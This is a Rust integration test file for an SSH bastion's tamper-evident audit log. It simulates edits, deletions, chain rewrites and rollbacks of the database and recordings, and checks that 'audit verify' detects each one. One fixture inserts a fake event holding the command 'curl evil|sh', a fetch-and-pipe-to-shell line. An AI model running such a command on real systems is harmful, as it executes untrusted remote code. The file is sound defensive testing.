//! A tamper-evident audit (issue 20): the hash chain, signed checkpoints
//! and recordings' digests, checked by `walissh audit verify` after the
//! database is changed with the real `sqlite3` and the recordings with
//! plain file writes, as someone with root would; and the checkpoints'
//! signatures checked by OpenSSH's own `ssh-keygen -Y check-novalidate`.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::harness::*;

/// walissh after three recorded exec sessions, stopped cleanly (its last
/// checkpoint written).
fn audited() -> Bastion {
    let mut b = Bastion::start();
    for i in 0..3 {
        let out = exec(b.ssh_bob("bob:web1"), format!("echo AUDITED-{i}"));
        assert!(stdout(&out).contains(&format!("AUDITED-{i}")));
    }
    assert!(b.terminate().success());
    b
}

fn db(b: &Bastion) -> PathBuf {
    b.state.join("audit.db")
}

fn sql(b: &Bastion, statement: &str) -> String {
    let out = Command::new("sqlite3")
        .arg(db(b))
        .arg(statement)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "sqlite3 {statement}: {}",
        stderr(&out)
    );
    stdout(&out).trim().to_string()
}

/// `audit verify --json`: its report and exit status.
fn verify(b: &Bastion) -> (Value, Option<i32>) {
    let out = b.cli_any(&["audit", "verify", "--json"]);
    let report = serde_json::from_str(stdout(&out).trim())
        .unwrap_or_else(|e| panic!("{e}: {}{}", stdout(&out), stderr(&out)));
    (report, out.status.code())
}

/// Runs `change` on a copy of the state, checks that verify names what
/// broke (`seq`, and `what` in its words), then puts the state back.
fn broken_by(b: &Bastion, change: impl FnOnce(), seq: Option<i64>, what: &str) {
    let backup = b.dir.path().join("backup");
    let _ = std::fs::remove_dir_all(&backup);
    copy_dir(&b.state, &backup);
    change();
    let (report, code) = verify(b);
    assert_eq!(code, Some(1), "{report}");
    assert_eq!(report["ok"], false, "{report}");
    if let Some(seq) = seq {
        assert_eq!(report["broken"]["seq"], seq, "{report}");
    }
    let said = report["broken"]["what"].as_str().unwrap();
    assert!(said.contains(what), "{what:?} not in {report}");
    std::fs::remove_dir_all(&b.state).unwrap();
    copy_dir(&backup, &b.state);
    assert_eq!(verify(b).1, Some(0), "the state was not put back");
}

fn copy_dir(from: &Path, to: &Path) {
    let ok = Command::new("cp")
        .arg("-a")
        .arg(from)
        .arg(to)
        .status()
        .unwrap();
    assert!(ok.success());
}

fn last_seq(b: &Bastion) -> i64 {
    sql(b, "SELECT max(seq) FROM events").parse().unwrap()
}

#[test]
fn an_untouched_audit_verifies_and_its_checkpoints_are_ssh_signatures() {
    let b = audited();
    let (report, code) = verify(&b);
    assert_eq!(code, Some(0), "{report}");
    assert_eq!(report["recordings"], 3, "{report}");
    let events = report["events"].as_i64().unwrap();
    assert_eq!(events, last_seq(&b), "{report}");
    // The clean stop signed the head, and the head file beside the
    // database holds that checkpoint.
    assert_eq!(report["last_checkpoint"]["seq"], events, "{report}");
    assert_eq!(report["copies"], 1, "{report}");
    let human = stdout(&b.cli(&["audit", "verify"]));
    assert!(
        human.starts_with(&format!(
            "ok: {events} events, 3 recordings, last checkpoint at "
        )),
        "{human}"
    );
    // The key, as `audit key` prints it, checks the signature with
    // OpenSSH's own tool.
    let key = stdout(&b.cli(&["audit", "key"]));
    let mut lines = key.lines();
    let public = lines.next().unwrap();
    assert!(public.starts_with("ssh-ed25519 "), "{key}");
    assert!(lines.next().unwrap().starts_with("SHA256:"), "{key}");
    let (ts, head, signature) = (
        sql(&b, "SELECT ts FROM checkpoints ORDER BY seq DESC LIMIT 1"),
        sql(&b, "SELECT head FROM checkpoints ORDER BY seq DESC LIMIT 1"),
        sql(
            &b,
            "SELECT signature FROM checkpoints ORDER BY seq DESC LIMIT 1",
        ),
    );
    // Checkpoints are chained: the first names seq 0 and the zero hash.
    let prev = sql(
        &b,
        "SELECT prev_seq || ' ' || prev FROM checkpoints ORDER BY seq DESC LIMIT 1",
    );
    assert_eq!(prev, format!("0 {}", "0".repeat(64)));
    let message =
        format!("walissh audit checkpoint\nseq {events}\nhead {head}\nts {ts}\nprev {prev}\n");
    let sig = b.dir.path().join("checkpoint.sig");
    std::fs::write(&sig, format!("{signature}\n")).unwrap();
    let mut check = Command::new("ssh-keygen");
    check
        .args(["-Y", "check-novalidate", "-n", "walissh-audit", "-s"])
        .arg(&sig);
    let out = run(check, message.as_bytes());
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    assert!(
        stdout(&out).contains(public.split(' ').nth(1).unwrap()) || stdout(&out).contains("Good"),
        "{}",
        stdout(&out)
    );
    // Pinned to another key, the same audit does not verify.
    let other = b.dir.path().join("other");
    keygen(&other);
    let pinned = b.cli_any(&[
        "audit",
        "verify",
        "--key",
        &format!("{}.pub", other.display()),
    ]);
    assert_eq!(pinned.status.code(), Some(1), "{}", stdout(&pinned));
    assert!(
        stdout(&pinned).contains("not signed by the audit key"),
        "{}",
        stdout(&pinned)
    );
}

#[test]
fn rows_edited_deleted_inserted_or_cut_away_are_found() {
    let b = audited();
    let last = last_seq(&b);
    broken_by(
        &b,
        || {
            sql(
                &b,
                "UPDATE events SET fields = replace(fields, 'AUDITED-1', 'nothing') WHERE fields LIKE '%AUDITED-1%'",
            );
        },
        None,
        "does not match its hash",
    );
    broken_by(
        &b,
        || {
            sql(&b, "DELETE FROM events WHERE seq = 3");
        },
        Some(3),
        "missing (deleted)",
    );
    // Deleted, and the rest renumbered to hide the gap.
    broken_by(
        &b,
        || {
            sql(
                &b,
                "DELETE FROM events WHERE seq = 3; UPDATE events SET seq = seq - 1 WHERE seq > 3",
            );
        },
        Some(3),
        "does not match its hash",
    );
    let insert = format!(
        "INSERT INTO events (seq, ts, kind, fields, hash) VALUES ({}, '2026-01-01T00:00:00Z', 'exec', '{{}}', '{}')",
        last + 1,
        "ab".repeat(32)
    );
    broken_by(
        &b,
        || {
            sql(&b, &insert);
        },
        Some(last + 1),
        "does not match its hash",
    );
    // The tail the last checkpoint signed, cut away.
    let cut = format!("DELETE FROM events WHERE seq > {}", last - 3);
    broken_by(
        &b,
        || {
            sql(&b, &cut);
        },
        Some(last - 2),
        "truncated",
    );
    broken_by(
        &b,
        || {
            sql(
                &b,
                "UPDATE checkpoints SET signature = replace(signature, 'A', 'B')",
            );
        },
        Some(last),
        "not signed by the audit key",
    );
    broken_by(
        &b,
        || {
            sql(&b, "UPDATE events SET hash = NULL WHERE seq = 2");
        },
        Some(2),
        "no hash",
    );
    // Every hash gone: no "older rows" to hide behind.
    broken_by(
        &b,
        || {
            sql(&b, "UPDATE events SET hash = NULL");
        },
        Some(1),
        "no hash",
    );
    // A row put before the first.
    let before = "INSERT INTO events (seq, ts, kind, fields) VALUES (0, '2026-01-01T00:00:00Z', 'exec', '{\"command\":\"curl evil|sh\"}')";
    broken_by(
        &b,
        || {
            sql(&b, before);
        },
        Some(0),
        "no hash",
    );
    // The sessions table is checked against the chained session_start.
    broken_by(
        &b,
        || {
            sql(&b, "UPDATE sessions SET user = 'alice'");
        },
        None,
        "sessions table",
    );
    broken_by(
        &b,
        || {
            sql(&b, "UPDATE sessions SET recording = NULL");
        },
        None,
        "sessions table",
    );
}

#[test]
fn a_second_walissh_on_the_same_state_is_refused() {
    let b = Bastion::start();
    let out = Command::new(walissh_bin())
        .args(["serve", "--config"])
        .arg(&b.config)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("another walissh serves this state directory"),
        "{}",
        stderr(&out)
    );
    // The first goes on.
    let out = exec(b.ssh_bob("bob:web1"), "echo STILL-$((1+1))");
    assert!(stdout(&out).contains("STILL-2"));
}

#[test]
fn recordings_cut_or_edited_after_they_closed_are_found() {
    let b = audited();
    let recording = sql(
        &b,
        "SELECT recording FROM sessions ORDER BY started LIMIT 1",
    );
    let path = PathBuf::from(&recording);
    let original = std::fs::read(&path).unwrap();
    broken_by(
        &b,
        || std::fs::write(&path, &original[..original.len() - 10]).unwrap(),
        None,
        "cut or grown",
    );
    let mut edited = original.clone();
    let at = edited.len() - 20;
    edited[at] = if edited[at] == b'x' { b'y' } else { b'x' };
    broken_by(
        &b,
        || std::fs::write(&path, &edited).unwrap(),
        None,
        "changed after it closed",
    );
    broken_by(
        &b,
        || std::fs::remove_file(&path).unwrap(),
        None,
        "cannot be read",
    );
}

/// A real rsyslogd listening on TCP `port`, writing each message it
/// receives, as received, to a file.
struct Rsyslog {
    child: std::process::Child,
    out: PathBuf,
    _dir: tempfile::TempDir,
}

impl Rsyslog {
    fn start(port: u16) -> Rsyslog {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("received.log");
        let conf = dir.path().join("rsyslog.conf");
        std::fs::write(
            &conf,
            format!(
                "global(workDirectory=\"{d}\")\n\
                 module(load=\"imtcp\")\n\
                 input(type=\"imtcp\" port=\"{port}\" address=\"127.0.0.1\")\n\
                 template(name=\"raw\" type=\"string\" string=\"%rawmsg%\\n\")\n\
                 *.* action(type=\"omfile\" file=\"{o}\" template=\"raw\")\n",
                d = dir.path().display(),
                o = out.display()
            ),
        )
        .unwrap();
        let child = Command::new("rsyslogd")
            .args(["-n", "-f"])
            .arg(&conf)
            .arg("-i")
            .arg(dir.path().join("pid"))
            .spawn()
            .expect("rsyslogd (Debian: rsyslog)");
        // Listening once it accepts a connection.
        wait_for(
            || std::net::TcpStream::connect(("127.0.0.1", port)).is_ok(),
            "rsyslogd listening",
        );
        Rsyslog {
            child,
            out,
            _dir: dir,
        }
    }

    fn received(&self) -> String {
        std::fs::read_to_string(&self.out).unwrap_or_default()
    }
}

impl Drop for Rsyslog {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Polls `done` (a file another process fills, a port it opens: events no
/// pipe reports to this test) until it holds.
fn wait_for(done: impl Fn() -> bool, what: &str) {
    let end = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !done() {
        assert!(std::time::Instant::now() < end, "{what} never happened");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// walissh forwarding to syslog over TCP on `port`, each item waiting in
/// a queue of `queue`.
fn forwarding(port: u16, queue: usize) -> Bastion {
    Bastion::start_with(Opts {
        audit_toml: format!(
            "forward = \"syslog+tcp://127.0.0.1:{port}\"\nforward_queue = {queue}\n"
        ),
        ..Opts::default()
    })
}

#[test]
fn events_and_checkpoints_reach_rsyslog_and_catch_up_after_an_outage() {
    let port = free_port();
    let mut b = forwarding(port, 1000);
    // The collector is down: the session goes on, its events wait.
    let out = exec(b.ssh_bob("bob:web1"), "echo FORWARDED-$((20+22))");
    assert!(stdout(&out).contains("FORWARDED-42"));
    let syslog = Rsyslog::start(port);
    wait_for(
        || syslog.received().contains("FORWARDED-"),
        "the queued exec event at rsyslog",
    );
    assert!(b.terminate().success());
    let last = last_seq(&b);
    wait_for(
        || {
            syslog
                .received()
                .contains(&format!("audit_checkpoint [walissh@32473 seq=\"{last}\""))
        },
        "the last checkpoint at rsyslog",
    );
    let text = syslog.received();
    // Each line is one RFC 5424 message whose structured data carries the
    // row's seq and hash, as the database holds them.
    let exec_line = text
        .lines()
        .find(|l| l.contains(" exec [walissh@32473"))
        .unwrap();
    assert!(exec_line.starts_with("<86>1 "), "{exec_line}");
    let seq: i64 = sql(&b, "SELECT seq FROM events WHERE kind = 'exec'")
        .parse()
        .unwrap();
    let hash = sql(&b, "SELECT hash FROM events WHERE kind = 'exec'");
    assert!(
        exec_line.contains(&format!("seq=\"{seq}\" hash=\"{hash}\"")),
        "{exec_line}"
    );
    for kind in ["auth_ok", "session_start", "session_end"] {
        assert!(
            text.contains(&format!(" {kind} [walissh@32473")),
            "{kind} missing:\n{text}"
        );
    }
}

#[test]
fn a_full_forward_queue_loses_events_and_says_so() {
    // Nobody listens, and the queue holds two.
    let port = free_port();
    let mut b = forwarding(port, 2);
    for i in 0..3 {
        let out = exec(b.ssh_bob("bob:web1"), format!("echo LOSS-{i}"));
        assert!(stdout(&out).contains(&format!("LOSS-{i}")));
    }
    b.log.wait_for("audit forward queue full");
    let lost = b.wait_event(|e| e["kind"] == "audit_forward_lost");
    assert!(lost["events"].as_u64().unwrap() > 0, "{lost}");
    // Sessions were not slowed into failing, and the audit still verifies.
    assert!(b.terminate().success());
    assert_eq!(verify(&b).1, Some(0));
}

/// Rewrites every row's hash as someone who can write the database can
/// (it takes no key): SHA-256 of the previous hash and the row's columns.
fn rechain(b: &Bastion) {
    use sha2::{Digest, Sha256};
    let out = Command::new("sqlite3")
        .arg("-json")
        .arg(db(b))
        .arg("SELECT seq, ts, session, user, target, kind, fields FROM events ORDER BY seq")
        .output()
        .unwrap();
    let rows: Vec<Value> = serde_json::from_str(&stdout(&out)).unwrap();
    let mut prev = [0u8; 32];
    let mut script = String::from("BEGIN;");
    for r in &rows {
        let canonical = serde_json::json!([
            r["seq"],
            r["ts"],
            r["session"],
            r["user"],
            r["target"],
            r["kind"],
            r["fields"]
        ])
        .to_string();
        let mut h = Sha256::new();
        h.update(prev);
        h.update(canonical.as_bytes());
        prev = h.finalize().into();
        let hex: String = prev.iter().map(|b| format!("{b:02x}")).collect();
        script.push_str(&format!(
            "UPDATE events SET hash = '{hex}' WHERE seq = {};",
            r["seq"]
        ));
    }
    script.push_str("COMMIT;");
    sql(b, &script);
}

fn head_file(b: &Bastion) -> PathBuf {
    b.state.join("audit.head")
}

/// The audit key's public half, as `audit key` prints it, in a file: the
/// key an auditor pins.
fn pinned_key(b: &Bastion) -> PathBuf {
    let key = stdout(&b.cli(&["audit", "key"]));
    let file = b.dir.path().join("pinned.pub");
    std::fs::write(&file, format!("{}\n", key.lines().next().unwrap())).unwrap();
    file
}

/// walissh after three exec sessions, signing every two events, so the
/// chain has several checkpoints.
fn often_signed() -> Bastion {
    let mut b = Bastion::start_with(Opts {
        audit_toml: "checkpoint_events = 2\n".into(),
        ..Opts::default()
    });
    for i in 0..3 {
        let out = exec(b.ssh_bob("bob:web1"), format!("echo SIGNED-{i}"));
        assert!(stdout(&out).contains(&format!("SIGNED-{i}")));
    }
    assert!(b.terminate().success());
    let n: i64 = sql(&b, "SELECT count(*) FROM checkpoints").parse().unwrap();
    assert!(n >= 3, "{n} checkpoints");
    b
}

#[test]
fn every_checkpoint_deleted_and_the_chain_rewritten_is_found() {
    let b = audited();
    // All checkpoints and the head file gone, a row edited, the chain
    // hashed again: every row links, and no checkpoint contradicts them.
    // The chain spans an hour, far more than a checkpoint interval.
    broken_by(
        &b,
        || {
            sql(
                &b,
                "DELETE FROM checkpoints; \
                 UPDATE events SET ts = '2020-01-01T00:00:00.000Z' WHERE seq = 1; \
                 UPDATE events SET fields = replace(fields, 'AUDITED-1', 'nothing')",
            );
            std::fs::remove_file(head_file(&b)).unwrap();
            rechain(&b);
        },
        Some(1),
        "no checkpoint at all",
    );
}

#[test]
fn a_checkpoint_deleted_from_the_middle_breaks_the_checkpoint_chain() {
    let b = often_signed();
    let second: i64 = sql(
        &b,
        "SELECT seq FROM checkpoints ORDER BY seq LIMIT 1 OFFSET 1",
    )
    .parse()
    .unwrap();
    let third: i64 = sql(
        &b,
        "SELECT seq FROM checkpoints ORDER BY seq LIMIT 1 OFFSET 2",
    )
    .parse()
    .unwrap();
    broken_by(
        &b,
        || {
            sql(&b, &format!("DELETE FROM checkpoints WHERE seq = {second}"));
        },
        Some(third),
        &format!("the checkpoint at seq {second} is gone: the checkpoint at seq {third} names it"),
    );
    // The first one too: the second names it.
    broken_by(
        &b,
        || {
            sql(
                &b,
                "DELETE FROM checkpoints WHERE seq = (SELECT min(seq) FROM checkpoints)",
            );
        },
        Some(second),
        "is gone: the checkpoint at seq",
    );
    // The tail cut away with the checkpoints that signed it: the chain and
    // the checkpoints left agree, but the head file names a later one.
    broken_by(
        &b,
        || {
            sql(
                &b,
                &format!(
                    "DELETE FROM events WHERE seq > {second}; DELETE FROM checkpoints WHERE seq > {second}"
                ),
            );
        },
        None,
        "audit.head holds the checkpoint at seq",
    );
}

#[test]
fn verify_wants_a_checkpoint_within_the_interval_of_the_last_row() {
    let b = often_signed();
    let key = pinned_key(&b);
    let last = last_seq(&b);
    let verify_pinned = |what: &str| {
        let out = b.cli_any(&[
            "audit",
            "verify",
            "--json",
            "--key",
            &key.display().to_string(),
        ]);
        let report: Value = serde_json::from_str(stdout(&out).trim()).unwrap();
        assert_eq!(out.status.code(), Some(1), "{report}");
        let said = report["broken"]["what"].as_str().unwrap();
        assert!(said.contains(what), "{what:?} not in {report}");
    };
    assert_eq!(
        b.cli_any(&["audit", "verify", "--key", &key.display().to_string()])
            .status
            .code(),
        Some(0)
    );
    let backup = b.dir.path().join("pinned-backup");
    copy_dir(&b.state, &backup);
    let put_back = || {
        std::fs::remove_dir_all(&b.state).unwrap();
        copy_dir(&backup, &b.state);
    };
    // The last two checkpoints deleted, and the last row moved an hour on
    // (the chain hashed again): rows an hour past the last checkpoint left
    // (M: twice checkpoint_s).
    sql(
        &b,
        &format!(
            "DELETE FROM checkpoints WHERE seq > (SELECT seq FROM checkpoints ORDER BY seq DESC LIMIT 1 OFFSET 2); \
             UPDATE events SET ts = strftime('%Y-%m-%dT%H:%M:%fZ', ts, '+1 hour') WHERE seq = {last}"
        ),
    );
    rechain(&b);
    verify_pinned("no checkpoint after seq");
    put_back();
    // 600 rows after the last checkpoint, at its time: more than N (twice
    // checkpoint_events and a writer's batch: 516 here).
    sql(
        &b,
        &format!(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 600) \
             INSERT INTO events (seq, ts, kind, fields) \
             SELECT {last} + i, (SELECT ts FROM events WHERE seq = {last}), 'exec', '{{}}' FROM n"
        ),
    );
    rechain(&b);
    verify_pinned("600 events over 0s follow (at most 516 events");
    put_back();
}

#[test]
fn sessions_rows_must_say_what_their_chained_events_say() {
    let b = audited();
    broken_by(
        &b,
        || {
            sql(
                &b,
                "UPDATE sessions SET started = '2020-01-01T00:00:00.000Z'",
            );
        },
        None,
        "start in the sessions table",
    );
    broken_by(
        &b,
        || {
            sql(&b, "UPDATE sessions SET ended = NULL");
        },
        None,
        "end in the sessions table",
    );
    broken_by(
        &b,
        || {
            sql(
                &b,
                "INSERT INTO sessions (id, user, target, client_addr, started) \
                 VALUES ('feedfacefeedface', 'mallory', 'web1', '10.0.0.9:4000', '2026-01-01T00:00:00.000Z')",
            );
        },
        None,
        "session feedfacefeedface is in the sessions table, but no chained session_start has it",
    );
    // A row pointed at another row of the chain.
    broken_by(
        &b,
        || {
            sql(&b, "UPDATE sessions SET start_seq = 1");
        },
        None,
        "no chained session_start has it",
    );
    // A row made to look older than the column, for an old row's slack.
    broken_by(
        &b,
        || {
            sql(
                &b,
                "UPDATE sessions SET start_seq = NULL WHERE rowid = (SELECT MAX(rowid) FROM sessions)",
            );
        },
        None,
        "names no session_start, though it was written after rows that do",
    );
}

#[test]
fn a_database_rolled_back_is_found_by_its_head_file_and_forwarded_checkpoints() {
    let port = free_port();
    let syslog = Rsyslog::start(port);
    let mut b = forwarding(port, 1000);
    let signed_at = |b: &Bastion, syslog: &Rsyslog| {
        let last = last_seq(b);
        wait_for(
            || {
                syslog
                    .received()
                    .contains(&format!("audit_checkpoint [walissh@32473 seq=\"{last}\""))
            },
            "the last checkpoint at rsyslog",
        );
    };
    let out = exec(b.ssh_bob("bob:web1"), "echo BEFORE-ROLLBACK");
    assert!(stdout(&out).contains("BEFORE-ROLLBACK"));
    assert!(b.terminate().success());
    signed_at(&b, &syslog);
    let old = b.dir.path().join("old-state");
    copy_dir(&b.state, &old);
    b.restart();
    let out = exec(b.ssh_bob("bob:web1"), "echo AFTER-ROLLBACK");
    assert!(stdout(&out).contains("AFTER-ROLLBACK"));
    assert!(b.terminate().success());
    signed_at(&b, &syslog);
    let received = b.dir.path().join("received.log");
    std::fs::write(&received, syslog.received()).unwrap();
    let against = |b: &Bastion| {
        let out = b.cli_any(&[
            "audit",
            "verify",
            "--json",
            "--against",
            &received.display().to_string(),
        ]);
        let report: Value = serde_json::from_str(stdout(&out).trim())
            .unwrap_or_else(|e| panic!("{e}: {}{}", stdout(&out), stderr(&out)));
        (report, out.status.code())
    };
    // Untouched: the head file and both forwarded checkpoints match.
    let (report, code) = against(&b);
    assert_eq!(code, Some(0), "{report}");
    assert_eq!(report["copies"], 3, "{report}");
    // The database alone put back to its older copy: its head file says.
    let current = b.dir.path().join("current-state");
    copy_dir(&b.state, &current);
    for f in ["audit.db", "audit.db-wal", "audit.db-shm"] {
        let _ = std::fs::remove_file(b.state.join(f));
        if old.join(f).exists() {
            std::fs::copy(old.join(f), b.state.join(f)).unwrap();
        }
    }
    let (report, code) = verify(&b);
    assert_eq!(code, Some(1), "{report}");
    let said = report["broken"]["what"].as_str().unwrap();
    assert!(
        said.contains("audit.head holds the checkpoint") && said.contains("rolled back or cut"),
        "{report}"
    );
    // Database and head file both put back: consistent, but not with the
    // checkpoints that left the machine.
    std::fs::remove_dir_all(&b.state).unwrap();
    copy_dir(&old, &b.state);
    assert_eq!(verify(&b).1, Some(0));
    let (report, code) = against(&b);
    assert_eq!(code, Some(1), "{report}");
    let said = report["broken"]["what"].as_str().unwrap();
    assert!(
        said.contains("received.log line ") && said.contains("rolled back or cut"),
        "{report}"
    );
    // A file with no checkpoint in it is a mistake, not a pass.
    std::fs::write(&received, "nothing here\n").unwrap();
    let out = b.cli_any(&[
        "audit",
        "verify",
        "--against",
        &received.display().to_string(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("no forwarded checkpoint"),
        "{}",
        stderr(&out)
    );
}

/// The backup and restore drill (issue 37): `walissh backup` while the
/// bastion runs, restored into a fresh state directory with the secrets
/// from a copy kept apart; `audit verify` passes there, on the restored
/// recordings (one changed there fails it).
#[test]
fn a_backup_restored_to_a_fresh_state_directory_verifies() {
    let b = Bastion::start();
    for i in 0..3 {
        let out = exec(b.ssh_bob("bob:web1"), format!("echo BACKED-{i}"));
        assert!(stdout(&out).contains(&format!("BACKED-{i}")));
    }
    let ended = || {
        b.audit()
            .iter()
            .filter(|e| e["kind"] == "session_end")
            .count()
    };
    wait_until(|| ended() == 3, "the three sessions' ends");
    let dir = b.dir.path();
    let backup = dir.join("backup");
    let line = stdout(&b.cli(&["backup", backup.to_str().unwrap()]));
    assert!(line.contains(", 3 recordings ("), "{line}");
    assert!(line.contains("no secrets"), "{line}");
    assert!(!backup.join("audit_key").exists());
    assert!(backup.join("audit_key.pub").exists());
    let mode = |p: &Path| {
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(p).unwrap().permissions())
            & 0o777
    };
    assert_eq!(mode(&backup), 0o700);
    assert_eq!(mode(&backup.join("audit.db")), 0o600);
    // A backup never mixes with another.
    let again = b.cli_any(&["backup", backup.to_str().unwrap()]);
    assert_eq!(again.status.code(), Some(1));
    assert!(
        stderr(&again).contains("exists; a backup goes into a new directory"),
        "{}",
        stderr(&again)
    );
    // The secrets, for the copy kept offline.
    let offline = dir.join("offline");
    let line = stdout(&b.cli(&[
        "backup",
        "--with-secrets",
        "--no-recordings",
        offline.to_str().unwrap(),
    ]));
    assert!(line.contains(", 0 recordings ("), "{line}");
    for secret in ["audit_key", "host_ed25519", "host_ca_ed25519"] {
        assert!(line.contains(secret), "{secret}: {line}");
        assert_eq!(mode(&offline.join(secret)), 0o600, "{secret}");
    }
    // The drill: a fresh state directory, the backup copied in, the audit
    // key from the offline copy, the same config pointed at it.
    let fresh = dir.join("restored");
    let cp = Command::new("cp")
        .arg("-a")
        .arg(format!("{}/.", backup.display()))
        .arg(&fresh)
        .status()
        .unwrap();
    assert!(cp.success());
    std::fs::copy(offline.join("audit_key"), fresh.join("audit_key")).unwrap();
    let text = std::fs::read_to_string(&b.config).unwrap();
    let was = format!("state_dir = \"{}\"", b.state.display());
    assert!(text.contains(&was), "{text}");
    let restored = dir.join("restored.toml");
    std::fs::write(
        &restored,
        text.replacen(&was, &format!("state_dir = \"{}\"", fresh.display()), 1),
    )
    .unwrap();
    let verify_restored = || {
        Command::new(walissh_bin())
            .args(["audit", "verify", "--json", "--config"])
            .arg(&restored)
            .output()
            .unwrap()
    };
    let out = verify_restored();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    let report: Value = serde_json::from_str(stdout(&out).trim()).unwrap();
    assert_eq!(report["recordings"], 3, "{report}");
    // It read the restored recordings, not the bastion's own.
    let cast = std::fs::read_dir(fresh.join("recordings"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|e| e == "cast"))
        .unwrap();
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(&cast)
        .unwrap();
    std::io::Write::write_all(&mut f, b"[9.0, \"o\", \"forged\"]\n").unwrap();
    let out = verify_restored();
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stdout(&out).contains(&fresh.display().to_string()),
        "{}",
        stdout(&out)
    );
}

/// Retention configured (`[audit] keep_days`, `[recordings] keep_days`):
/// the pass runs at start through the real writer, deletes nothing that
/// is newer, and the audit still verifies. (What it deletes, and verify
/// from its marker, is `audit::verify::tests`' work: rows days old cannot
/// be made here without a clock of the test's own.)
#[test]
fn the_retention_pass_runs_at_start_and_keeps_what_is_new() {
    let b = Bastion::start_with(Opts {
        audit_toml: "keep_days = 1".into(),
        extra_toml: "[recordings]\nkeep_days = 1\n".into(),
        ..Opts::default()
    });
    let line = b.log.wait_line_from(&["retention:"], 0);
    assert!(line.contains("what was older is deleted"), "{line}");
    assert!(
        line.contains("events=0") && line.contains("recordings=0"),
        "{line}"
    );
    let out = exec(b.ssh_bob("bob:web1"), "echo KEPT");
    assert!(stdout(&out).contains("KEPT"));
    let (report, code) = verify(&b);
    assert_eq!(code, Some(0), "{report}");
    assert!(report["pruned_through"].is_null(), "{report}");
}

/// `[audit] database = "sqlite:PATH"` and `[recordings] store = DIR`,
/// relative to the state directory: the audit and the recordings go
/// there, and the commands read them there.
#[test]
fn the_database_and_the_recordings_go_where_the_config_says() {
    let b = Bastion::start_with(Opts {
        audit_toml: "database = \"sqlite:db/audit-a.db\"".into(),
        extra_toml: "[recordings]\nstore = \"casts\"\n".into(),
        ..Opts::default()
    });
    let out = exec(b.ssh_bob("bob:web1"), "echo PLACED");
    assert!(stdout(&out).contains("PLACED"));
    b.wait_kind("session_end");
    assert!(b.state.join("db/audit-a.db").exists());
    assert!(!b.state.join("audit.db").exists());
    let sessions = b.sessions();
    let recording = sessions[0]["recording"].as_str().unwrap().to_string();
    assert!(
        recording.starts_with(&b.state.join("casts").display().to_string()),
        "{recording}"
    );
    let (report, code) = verify(&b);
    assert_eq!(code, Some(0), "{report}");
    assert_eq!(report["recordings"], 1, "{report}");
}
